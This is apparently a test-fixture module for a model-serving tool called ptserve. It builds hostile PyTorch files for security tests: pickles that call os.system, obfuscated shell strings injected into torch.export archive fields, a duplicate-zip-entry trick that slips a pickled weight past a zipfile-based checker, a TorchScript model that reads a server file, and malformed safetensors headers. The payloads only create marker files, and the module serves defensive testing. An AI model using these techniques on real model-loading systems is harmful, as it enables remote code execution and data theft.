"""Hostile model files, built against ptserve's own checks: each would run a shell command (that
creates a marker file) or read a server file when loaded by plain torch. Each comes with a
control that loads it as plain torch would, so a test can show the attack is real.
"""

import io
import json
import pickle
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import torch
from safetensors.torch import save_file
from torch import nn
from torch.export import Dim, export

from tests.artefacts import Exploit, save_malicious

CONFIG = "data/weights/model_weights_config.json"


@dataclass
class Hostile:
    """A hostile file, the marker its payload would create, and how plain torch loads it
    (None where torch itself would not run the payload: refused by ptserve's policy alone)."""

    path: Path
    marker: Path
    control: Callable[[Path], Any] | None = None
    flags: tuple[str, ...] = ()  # what ptserve needs to get as far as the payload


class Scaled(nn.Module):
    """A linear layer and a buffer: weights, a buffer and a dynamic batch in the export."""

    def __init__(self) -> None:
        super().__init__()
        self.l = nn.Linear(8, 3)
        self.register_buffer("scale", torch.ones(3))

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.l(x) * self.scale


class ReadsFile(nn.Module):
    """Adds the first byte of a file on the server to its input (torch.from_file)."""

    def __init__(self, secret: str) -> None:
        super().__init__()
        self.secret = secret

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        stolen = torch.from_file(self.secret, size=1, dtype=torch.uint8)
        return x + stolen.float()


def exported(path: Path) -> Path:
    """An ordinary torch.export archive (what every hostile .pt2 is rewritten from)."""
    torch.manual_seed(0)
    program = export(Scaled().eval(), (torch.zeros(2, 8),), dynamic_shapes={"x": {0: Dim("b")}})
    torch.export.save(program, path)
    return path


def run_export(path: Path) -> Any:
    """Plain torch: load the program, build its module, run it once."""
    return torch.export.load(path).module()(torch.zeros(2, 8))


def shell(marker: Path) -> str:
    """Python that runs ``touch marker``, written without dots (dotted names get split)."""
    codes = ",".join(str(b) for b in f"touch {marker}".encode())
    return f'getattr(__import__("os"),"system")(str(bytes([{codes}]),"ascii"))'


def hostile_exports(folder: Path) -> dict[str, Hostile]:
    """One .pt2 archive per way torch.export.load runs code from a file."""
    base = exported(folder / "base.pt2")
    made: dict[str, Hostile] = {}

    def make(name: str, edit: Callable[[dict[str, bytes], Path], None], control: bool) -> None:
        marker = folder / f"{name}.ran"
        entries = archive_entries(base)
        edit(entries, marker)
        path = folder / f"{name}.pt2"
        write_archive(path, entries, root=name)
        made[name] = Hostile(path, marker, run_export if control else None)

    def pickled_weight(e: dict[str, bytes], marker: Path) -> None:
        config = json.loads(e[CONFIG])
        config["config"]["scale"]["use_pickle"] = True
        e[CONFIG] = json.dumps(config).encode()
        e[f"data/weights/{config['config']['scale']['path_name']}"] = _torch_saved(marker)

    def opaque_constant(e: dict[str, bytes], marker: Path) -> None:
        meta = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True}
        e["data/constants/model_constants_config.json"] = json.dumps(
            {"config": {"evil": {**meta, "tensor_meta": None}}}
        ).encode()
        e["data/constants/opaque_obj_0"] = pickle.dumps(Exploit(marker))

    def torchbind_constant(e: dict[str, bytes], marker: Path) -> None:
        meta = {"path_name": "custom_obj_0", "is_param": False, "use_pickle": True}
        e["data/constants/model_constants_config.json"] = json.dumps(
            {"config": {"evil": {**meta, "tensor_meta": None}}}
        ).encode()
        e["data/constants/custom_obj_0"] = pickle.dumps(Exploit(marker))

    def example_inputs(e: dict[str, bytes], marker: Path) -> None:
        e["data/sample_inputs/model.pt"] = _torch_saved(marker)

    def legacy_weights(e: dict[str, bytes], marker: Path) -> None:
        e["data/weights/model.pt"] = _torch_saved(marker)

    def symbolic_shape(e: dict[str, bytes], marker: Path) -> None:
        program = json.loads(e["models/model.json"])
        size = program["graph_module"]["graph"]["tensor_values"]["x"]["sizes"][0]
        size["as_expr"]["expr_str"] = f"__import__('os').system('touch {marker}')"
        e["models/model.json"] = json.dumps(program).encode()

    def guard(e: dict[str, bytes], marker: Path) -> None:
        program = json.loads(e["models/model.json"])
        program["guards_code"] = [f"{shell(marker)} == 0"]
        e["models/model.json"] = json.dumps(program).encode()

    def buffer_name(e: dict[str, bytes], marker: Path) -> None:
        # pasted into the generated forward as getattr(self, "<name>")
        fqn = f'l"),{shell(marker)},getattr(self,"l'
        text = e["models/model.json"].decode()
        named = text.replace('"buffer_name": "scale"', f'"buffer_name": {json.dumps(fqn)}')
        e["models/model.json"] = named.encode()
        config = json.loads(e[CONFIG])
        config["config"][fqn] = config["config"].pop("scale")
        e[CONFIG] = json.dumps(config).encode()

    def os_system_target(e: dict[str, bytes], marker: Path) -> None:
        program = json.loads(e["models/model.json"])
        command = {"name": "command", "arg": {"as_string": f"touch {marker}"}, "kind": 1}
        node = {"target": "torch.serialization.os.system", "name": "run", "inputs": [command],
                "outputs": [], "metadata": {}, "is_hop_single_tensor_return": None}  # fmt: skip
        program["graph_module"]["graph"]["nodes"].insert(0, node)
        e["models/model.json"] = json.dumps(program).encode()

    def aoti_package(e: dict[str, bytes], marker: Path) -> None:
        e["data/aotinductor/model/model.so"] = b"\x7fELF not really"

    make("pickled_weight", pickled_weight, control=True)
    make("opaque_constant", opaque_constant, control=True)
    make("torchbind_constant", torchbind_constant, control=False)
    make("example_inputs", example_inputs, control=True)
    make("legacy_weights", legacy_weights, control=True)
    make("symbolic_shape", symbolic_shape, control=True)
    make("guard", guard, control=True)
    make("buffer_name", buffer_name, control=True)
    make("os_system_target", os_system_target, control=False)  # torch's verifier refuses it
    make("aoti_package", aoti_package, control=False)
    made["duplicate_config"] = _duplicate_config(base, folder)
    made["pre_2_7_layout"] = _pre_2_7_layout(base, folder)
    return made


def _duplicate_config(base: Path, folder: Path) -> Hostile:
    """Two weights configs. Python's zipfile takes the last (the ordinary one); torch's reader
    takes one by a binary search over sorted names, so padding entries are added until it takes
    the first (a pickled weight): a checker that used zipfile would pass what torch unpickles."""
    marker = folder / "duplicate_config.ran"
    entries = archive_entries(base)
    honest = entries.pop(CONFIG)
    config = json.loads(honest)
    config["config"]["scale"].update(path_name="weight_9", use_pickle=True)
    path = folder / "duplicate_config.pt2"
    for padding in range(32):
        with warnings.catch_warnings(), zipfile.ZipFile(path, "w") as archive:
            warnings.simplefilter("ignore", UserWarning)  # "Duplicate name": the point
            archive.writestr(f"duplicate_config/{CONFIG}", json.dumps(config))
            for i in range(padding):
                archive.writestr(f"duplicate_config/extra/padding_{i}", "")
            for name, data in entries.items():
                archive.writestr(f"duplicate_config/{name}", data)
            archive.writestr("duplicate_config/data/weights/weight_9", _torch_saved(marker))
            archive.writestr(f"duplicate_config/{CONFIG}", honest)
        if b"weight_9" in torch._C.PyTorchFileReader(str(path)).get_record(CONFIG):
            return Hostile(path, marker, run_export)
    raise AssertionError("torch's zip reader always took the ordinary config")


def _pre_2_7_layout(base: Path, folder: Path) -> Hostile:
    """torch.export's layout before its archive format: no root folder, pickled state."""
    marker = folder / "pre_2_7_layout.ran"
    payload = _torch_saved(marker)
    path = folder / "pre_2_7_layout.pt2"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(
            "serialized_exported_program.json", archive_entries(base)["models/model.json"]
        )
        for name in ("state_dict", "constants", "example_inputs"):
            archive.writestr(f"serialized_{name}.pt", payload)
        archive.writestr("version", "8.20")
    return Hostile(path, marker, run_export)


def reads_server_file(folder: Path, secret: Path) -> Hostile:
    """A TorchScript program whose forward reads ``secret`` (torch.from_file): the control
    returns that file's first byte added to its zero input."""
    path = folder / "reads_file.pt"
    torch.jit.script(ReadsFile(str(secret))).save(str(path))
    return Hostile(
        path,
        folder / "reads_file.ran",
        lambda p: torch.jit.load(str(p))(torch.zeros(1)),  # type: ignore[no-untyped-call]
        ("--input-shape", "1"),
    )


def hostile_pickle(folder: Path) -> Hostile:
    """A whole-module pickle whose unpickling runs a shell command (os.system)."""
    path, marker = folder / "evil.pt", folder / "evil.ran"
    save_malicious(path, marker)
    return Hostile(path, marker, lambda p: torch.load(p, weights_only=False))


def hostile_fastai(folder: Path) -> Hostile:
    """A fastai-looking export (fastai globals) that also names os.system."""
    from fastai.learner import Learner

    path, marker = folder / "export.pkl", folder / "fastai.ran"
    torch.save({"learner": Learner, "payload": Exploit(marker)}, path)
    return Hostile(path, marker, lambda p: torch.load(p, weights_only=False))


def hostile_safetensors(folder: Path) -> dict[str, Path]:
    """Safetensors files with hostile headers (none can run code; each must be refused in one
    line, not a traceback)."""
    made: dict[str, Path] = {}

    def header(name: str, text: bytes, data: bytes = b"") -> None:
        path = folder / f"{name}.safetensors"
        path.write_bytes(len(text).to_bytes(8, "little") + text + data)
        made[name] = path

    header("deep_nesting", b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}")
    entry = {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}
    past = {"w": {**entry, "data_offsets": [0, 1 << 40]}}
    header("past_the_end", json.dumps(past).encode(), bytes(16))
    header("overlapping", json.dumps({"a": entry, "b": entry}).encode(), bytes(16))
    header("wrong_size", json.dumps({"w": {**entry, "shape": [1000]}}).encode(), bytes(16))
    header("unknown_dtype", json.dumps({"w": {**entry, "dtype": "PYOBJ"}}).encode(), bytes(16))
    header("not_an_object", b"[1, 2, 3]")
    ok = folder / "ok.safetensors"
    save_file({"w": torch.zeros(4)}, ok)
    huge = folder / "huge_header.safetensors"
    huge.write_bytes((1 << 62).to_bytes(8, "little") + ok.read_bytes()[8:])
    made["huge_header"] = huge
    return made


def _torch_saved(marker: Path) -> bytes:
    buffer = io.BytesIO()
    torch.save(Exploit(marker), buffer)
    return buffer.getvalue()


def archive_entries(path: Path) -> dict[str, bytes]:
    """An archive's entries by name below its root folder."""
    with zipfile.ZipFile(path) as archive:
        return {i.filename.split("/", 1)[1]: archive.read(i) for i in archive.infolist()}


def write_archive(path: Path, entries: dict[str, bytes], root: str) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in entries.items():
            archive.writestr(f"{root}/{name}", data)


def markers_in(folder: Path) -> list[str]:
    """The markers payloads created in ``folder``."""
    return sorted(path.name for path in folder.glob("*.ran"))
